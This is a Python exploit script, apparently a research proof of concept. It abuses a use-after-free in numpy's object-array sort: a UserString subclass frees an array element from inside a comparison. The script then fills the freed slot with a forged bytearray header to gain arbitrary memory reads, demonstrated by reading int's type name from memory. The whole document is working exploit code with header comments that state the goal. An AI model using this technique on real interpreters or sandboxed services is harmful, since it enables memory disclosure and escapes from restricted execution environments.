# source: numpy 1.24 npysort/quicksort.cpp generic npy_quicksort (insertion sort keeps the element pointer in vp and writes it back) with OBJECT_compare; Lib/collections/__init__.py UserString.__gt__ reads self.data
# family: in-place object sort meeting a library comparison that reads an overridable attribute (data property): no comparison defined by the script, so .sort() is accepted; freed element's pointer written back into the array
# goal: arbitrary memory read through a fake bytearray left in the array
import numpy as np
import collections

MASK = (1 << 64) - 1


def addr_of_type(t):
    h = hash(t) & MASK
    return ((h << 4) | (h >> 60)) & MASK


def q(v):
    return (v & MASK).to_bytes(8, "little")


keep = []
state = {"done": False}
L = 2000
fake = q(1 << 40) + q(addr_of_type(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
fake = fake + bytes(L + 32 - len(fake))
book = np.empty(2, dtype=object)


class Tag(collections.UserString):
    def __init__(self):
        self.n = 0

    @property
    def data(self):
        if not state["done"]:
            state["done"] = True
            book[1] = None
        return b"x"


book[0] = Tag()
book[1] = bytes(L)
book.sort()
keep.append(bytearray(fake))
for f in book:
    if type(f) is bytearray:
        print(type(f), len(f) > 10**15)
        base = addr_of_type(int)
        p = int.from_bytes(bytes(f[base + 24:base + 32]), "little")
        print("tp_name of int read from memory:", bytes(f[p:p + 3]))
